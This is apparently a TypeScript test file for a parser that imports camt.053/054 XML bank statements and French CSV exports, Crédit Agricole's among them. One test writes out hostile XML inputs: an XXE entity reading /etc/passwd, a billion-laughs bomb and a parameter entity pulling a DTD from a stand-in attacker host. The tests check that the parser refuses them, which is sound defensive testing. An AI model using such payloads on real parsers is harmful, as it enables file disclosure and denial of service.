import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseCamt } from './camt';
import { parseFrenchCsv } from './french-csv';
import { readStatement } from './import-statement';

const fixture = (name: string) =>
  readFileSync(new URL(`../../../../test/fixtures/statements/${name}`, import.meta.url), 'utf8');

describe('camt.053 and camt.054', () => {
  it('reads the credits of a camt.053.001.02, one line per transaction of a batch entry', () => {
    const lines = parseCamt(fixture('camt.053.001.02.xml'));
    expect(lines.map((l) => [l.amountCents, l.currency, l.bookedOn, l.debtorName, l.bankReference])).toEqual([
      [9599, 'EUR', '2026-11-24', 'AWA DIALLO', '2026112400001'],
      [4500, 'EUR', '2026-11-24', 'Fatou & Moussa Ndiaye', '2026112400003/1'],
      [2550, 'EUR', '2026-11-24', 'Inconnu', '2026112400003/2'],
    ]);
    expect(lines[0]?.remittance).toBe('RF92CMD2026000123');
    expect(lines[1]?.remittance).toBe('Commande rf65 cmd2 0260 0012 4 merci');
    expect(new Set(lines.map((l) => l.key)).size).toBe(3);
  });

  it('reads a prefixed camt.053.001.08: Dbtr/Pty/Nm, BookgDt/DtTm, other currencies kept, reversals skipped', () => {
    const lines = parseCamt(fixture('camt.053.001.08.xml'));
    expect(lines.map((l) => [l.amountCents, l.currency, l.bookedOn, l.debtorName, l.bankReference])).toEqual([
      [125000, 'EUR', '2026-11-25', 'Koffi Mensah', 'BQ-20261125-7781-T'],
      [500000, 'XOF', '2026-11-25', null, 'BQ-20261125-7782'],
    ]);
    expect(lines[0]?.remittance).toContain('CMD-2026-000200');
    expect(lines[1]?.remittance).toBe('VIR RF50CMD2026000200');
  });

  it('reads a camt.054 notification', () => {
    const [line, ...rest] = parseCamt(fixture('camt.054.001.04.xml'));
    expect(rest).toEqual([]);
    expect(line).toMatchObject({ amountCents: 1990, debtorName: 'Mariam Touré', remittance: '65CMD2026000124' });
  });

  it('refuses a DOCTYPE, entity declarations and unknown entities (no XXE, no billion laughs)', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document>&x;</Document>';
    expect(() => parseCamt(xxe)).toThrow(/DOCTYPE/);
    expect(() => parseCamt('<Document><BkToCstmrStmt>&lol;</BkToCstmrStmt></Document>')).toThrow(/entité/);
  });

  it('refuses a billion laughs, a parameter entity and an external DTD before parsing', () => {
    const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lol}]><Document>&lol9;</Document>`;
    expect(() => parseCamt(laughs)).toThrow(/DOCTYPE et ENTITY sont refusées/);
    const parameter = '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attaquant.example/x.dtd"> %remote;]><Document/>';
    expect(() => parseCamt(parameter)).toThrow(/DOCTYPE et ENTITY sont refusées/);
    expect(() => parseCamt('<!doctype Document SYSTEM "releve.dtd"><Document/>')).toThrow(/DOCTYPE/);
  });

  it('decodes only the predefined entities and character references, keeps CDATA as written', () => {
    const xml = fixture('camt.054.001.04.xml').replace(
      'Mariam Touré',
      'Mariam &amp; Awa &#x54;our&#233; <![CDATA[&amp; <cie>]]>',
    );
    expect(parseCamt(xml)[0]?.debtorName).toBe('Mariam & Awa Touré &amp; <cie>');
    expect(() => parseCamt(xml.replace('&amp; Awa', '& Awa'))).toThrow(/pas valide/);
  });

  it('refuses malformed XML and other XML documents in French', () => {
    expect(() => parseCamt('<Document><BkToCstmrStmt></Document>')).toThrow(/pas valide/);
    expect(() => parseCamt('<Document><pain.001/></Document>')).toThrow(/camt\.053 ou camt\.054/);
    expect(() => parseCamt('<a>'.repeat(100))).toThrow(/profonde/);
    expect(() => parseCamt(`${'<a>'.repeat(100)}${'</a>'.repeat(100)}`)).toThrow(/profonde/);
    expect(() => parseCamt('<Document/><Document/>')).toThrow(/pas valide/);
  });

  it('refuses an amount with more than two decimals', () => {
    const xml = fixture('camt.054.001.04.xml').replace('19.90', '19.905');
    expect(() => parseCamt(xml)).toThrow(/Montant illisible/);
  });
});

describe('generic French bank CSV', () => {
  it('reads date;libellé;montant with a BOM, quotes, decimal comma and thousands; debits skipped', () => {
    const { layout, lines } = parseFrenchCsv(fixture('generique.csv'));
    expect(layout).toBe('csv');
    expect(lines.map((l) => [l.bookedOn, l.amountCents, l.remittance])).toEqual([
      ['2026-11-24', 9599, 'VIR SEPA AWA DIALLO; RF92 CMD2 0260 0012 3'],
      ['2026-11-25', 125000, 'VIR INST CMD-2026-000200'],
    ]);
    expect(lines[0]?.key).toMatch(/^hash:/);
    expect(parseFrenchCsv(fixture('generique.csv')).lines[0]?.key).toBe(lines[0]?.key);
  });

  it('refuses a wrong header, a bad date or an unreadable amount in French', () => {
    expect(() => parseFrenchCsv('a;b;c\n')).toThrow(/date;libellé;montant/);
    expect(() => parseFrenchCsv('date;libellé;montant\n31/02/2026;x;1,00')).toThrow(/jj\/mm\/aaaa/);
    expect(() => parseFrenchCsv('date;libellé;montant\n01/02/2026;x;abc')).toThrow(/Montant illisible/);
  });
});

/**
 * Crédit Agricole's account export, as its customers download it (decision 047): lines about
 * the account before the table, 'Date;Libellé;Débit euros;Crédit euros;', a trailing semicolon,
 * labels over several lines in quotes, Windows-1252.
 */
const creditAgricole = [
  'Téléchargement du 26/11/2026;',
  '',
  'BOUCLES SAS',
  'Compte Courant n° 12345678901;',
  'Solde au 26/11/2026 3 178,30 €',
  '',
  'Liste des opérations du compte entre le 20/11/2026 et le 26/11/2026;',
  '',
  'Date;Libellé;Débit euros;Crédit euros;',
  '25/11/2026;"VIREMENT EN VOTRE FAVEUR',
  'AWA DIALLO',
  '',
  'RF92 CMD2 0260 0012 3  ";;95,99;',
  '25/11/2026;"PRELEVEMENT',
  'EDF ""Tarif bleu""',
  '";42,10;;',
  '24/11/2026;"VIREMENT EN VOTRE FAVEUR',
  'Société Touré; commande CMD-2026-000200";;1 250,00;',
  '',
].join('\r\n');

describe('Crédit Agricole CSV export', () => {
  it('is recognised by its header, in Windows-1252, and reads the credits only', () => {
    const { format, lines } = readStatement(Buffer.from(creditAgricole, 'latin1'));
    expect(format).toBe('csv_credit_agricole');
    expect(lines.map((l) => [l.bookedOn, l.amountCents, l.remittance])).toEqual([
      ['2026-11-25', 9599, 'VIREMENT EN VOTRE FAVEUR AWA DIALLO RF92 CMD2 0260 0012 3'],
      ['2026-11-24', 125000, 'VIREMENT EN VOTRE FAVEUR Société Touré; commande CMD-2026-000200'],
    ]);
    expect(readStatement(Buffer.from(creditAgricole, 'utf8')).lines).toEqual(lines);
  });

  it('refuses an unclosed quote, a bad date and a header that is neither layout, in French', () => {
    expect(() => parseFrenchCsv(creditAgricole.replace('";42,10;;', ';42,10;;'))).toThrow(/guillemets mal/);
    expect(() => parseFrenchCsv(creditAgricole.replace('25/11/2026;"PRE', '2026-11-25;"PRE'))).toThrow(/ligne 14/);
    expect(() => parseFrenchCsv(creditAgricole.replace('Crédit euros', 'Crédit francs'))).toThrow(/Crédit Agricole/);
  });
});
